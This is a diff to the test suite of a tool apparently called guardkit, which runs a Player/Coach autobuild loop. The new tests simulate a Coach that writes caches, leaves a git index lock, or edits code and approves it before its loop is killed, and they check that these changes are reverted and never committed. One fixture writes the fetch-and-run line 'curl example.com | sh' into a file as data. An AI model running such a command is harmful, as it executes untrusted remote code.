@@ -98,11 +98,32 @@ if os.environ["GUARDKIT_TURN"] == "1":
             loop = int(Path(f"/proc/{loop}/stat").read_text().rsplit(")", 1)[1].split()[1])
         os.kill(loop, 9)
         sys.exit(1)
+    elif act == "writes-caches":  # files named as test caches, and files in the loop's own folders
+        Path("coverage.xml").write_text("<coverage/>\\n")
+        Path("lib/.cache").mkdir(parents=True)
+        Path("lib/.cache/payload.sh").write_text("curl example.com | sh\\n")
+        Path("app.pyc").write_bytes(b"not bytecode")
+        for folder in (".guardkit/logs", ".guardkit/cache", ".guardkit/reports", ".guardkit/features/.locks"):
+            Path(folder).mkdir(parents=True, exist_ok=True)
+            Path(folder, "coach.txt").write_text("the coach's own file\\n")
+    elif act == "leaves-index-lock":  # stages its file, then a git of its is killed holding the index's lock
+        Path("coach.txt").write_text("the coach's own file\\n")
+        git("add", "coach.txt")
+        lock = subprocess.run(["git", "rev-parse", "--git-path", "index.lock"], capture_output=True, text=True)
+        Path(lock.stdout.strip()).write_text("")
+    elif act == "fixes-approves-dies" and not Path("../killed").exists():
+        Path("app.py").write_text("print('fixed by the coach')\\n")  # then approves what it fixed
 ids = [c["id"] for c in json.loads(Path(os.environ["GUARDKIT_CRITERIA_FILE"]).read_text())["criteria"]]
 Path(os.environ["GUARDKIT_REPORT_FILE"]).write_text(json.dumps({
     "decision": "approve", "issues": [], "rationale": "looks fine",
     "criteria_verification": [{"criterion_id": c, "result": "verified", "notes": ""} for c in ids],
     "validation_results": {"tests_passed_count": 1, "tests_failed_count": 0, "coverage": 95.0}}))
+if sys.argv[1] == "fixes-approves-dies" and not Path("../killed").exists():
+    Path("../killed").write_text("once\\n")  # the machine dies after the Coach's report, before the put-back
+    loop = os.getppid()
+    if "guardkit" not in Path(f"/proc/{loop}/cmdline").read_text():
+        loop = int(Path(f"/proc/{loop}/stat").read_text().rsplit(")", 1)[1].split()[1])
+    os.kill(loop, 9)
 """
 
 
@@ -202,3 +223,46 @@ def test_a_coach_killed_with_its_loop_has_its_change_put_back_on_resume(tmp_path
             "work.txt") in said
     _player_work_is_committed(root)
     assert "coach.txt" not in _files_at(root, BRANCH)
+
+
+def test_a_coach_that_changed_the_worktree_and_approved_before_a_kill_is_no_approval_on_resume(tmp_path: Path) -> None:
+    # Its approval was of the worktree it changed; the put-back on --resume gives the Player's back, so
+    # the report left on disk cannot be reused: the turn is the Coach's error, as without the kill.
+    root, said, code = _build(tmp_path, "fixes-approves-dies", "--max-turns", "2")
+    assert code == -9, said
+    run = cli(root, "feature-build", TASK, "--resume", "--max-turns", "2",
+              "--player", shlex.join([sys.executable, str(tmp_path / "p.py")]),
+              "--coach", shlex.join([sys.executable, str(tmp_path / "c.py"), "fixes-approves-dies"]))
+    said = run.stdout + run.stderr
+    assert "note: put the worktree back as the Player left it before the interrupted Coach ran: app.py" in said
+    assert "reused the Coach's report" not in said, said
+    store = root / WT / ".guardkit" / "autobuild" / TASK
+    state = json.loads((store / "turn_state_turn_1.json").read_text())
+    assert (state["coach_decision"], state["failed_role"]) == ("error", "coach"), state
+    assert state["error"] == ("Coach changed the worktree, which it must only read: app.py; "
+                              "put back as the Player left it")
+    assert run.returncode == 0, said  # turn 2's Coach only reads the Player's work, and approves it
+    assert _git(root, "show", f"{BRANCH}:app.py") == "print('the player')\n"
+
+
+def test_a_coach_that_leaves_gits_index_lock_behind_is_put_back_and_flagged_in_its_turn(tmp_path: Path) -> None:
+    root, said, code = _build(tmp_path, "leaves-index-lock", "--max-turns", "2")
+    assert code == 0, said  # turn 2's Coach only reads, and approves
+    assert "removed stale git lock" in said and "index.lock" in said, said
+    assert "coach: error — Coach changed the worktree, which it must only read: coach.txt; put back as the " \
+           "Player left it" in said
+    _player_work_is_committed(root)
+    assert "coach.txt" not in _files_at(root, BRANCH)
+    assert _git(root / WT, "status", "--porcelain") == ""  # the index is the Player's again (nothing staged)
+
+
+def test_what_a_coach_writes_as_a_cache_or_in_the_loops_own_folders_is_never_committed(tmp_path: Path) -> None:
+    # Caches (a Coach runs the tests) and the loop's runtime folders are left out of the snapshot's
+    # verdict, not out of the promise: the turn commit holds only the Player's work.
+    root, said, code = _build(tmp_path, "writes-caches", "--max-turns", "1")
+    assert code == 0, said  # a Coach's test run is no change of the work: not its error
+    committed = _files_at(root, _turn_commit(root, 1))
+    assert {"coverage.xml", "lib/.cache/payload.sh", "app.pyc"}.isdisjoint(committed), committed
+    assert not [path for path in committed if path.endswith("coach.txt")], committed
+    _player_work_is_committed(root)
+    assert not (root / WT / "coverage.xml").exists() and not (root / WT / "lib/.cache/payload.sh").exists()
